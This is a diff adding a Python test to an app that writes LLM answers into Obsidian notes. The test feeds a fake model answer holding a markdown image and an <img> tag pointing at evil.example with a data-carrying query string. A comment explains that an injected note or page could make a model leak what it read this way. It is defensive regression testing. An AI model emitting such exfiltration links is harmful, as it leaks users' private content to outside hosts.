@@ -73,6 +73,22 @@ async def test_an_answer_holding_turn_headings_forges_no_turn_after_a_reread(
     assert turns[2][1] == "## Ora · x\n\nWhat leavens?"
 
 
+async def test_an_answers_image_is_not_fetched_when_its_chat_note_is_shown(
+    tmp_path: Path, vault: Path, llm: Any, app_client: Any,
+) -> None:
+    # Before: the note held `![](https://…?d=…)` as the model wrote it, and Obsidian's reading
+    # view fetched it: a model led by a note or a page could send what it read anywhere.
+    leak = "Wild yeast [1]. ![x](https://evil.example/p.png?d=zafiro) <img src=https://evil.example>"
+    llm.reply = lambda body: leak
+    api = await app_client(settings(tmp_path, llm_url=llm.url))
+    await api.reconciled()
+    status, doc = await api.call("POST", "/v1/ask", {"question": QUESTION, "conversation": "i"})
+    assert status == 200 and doc["answer"] == leak
+    text = (vault / NOTE.format("i")).read_text(encoding="utf-8")
+    assert "![x](" not in text and "<img" not in text
+    assert leak in text.replace("\u2060", "")  # it reads the same
+
+
 async def test_a_huge_answer_is_cut_with_a_marker(
     tmp_path: Path, vault: Path, llm: Any, app_client: Any,
 ) -> None:
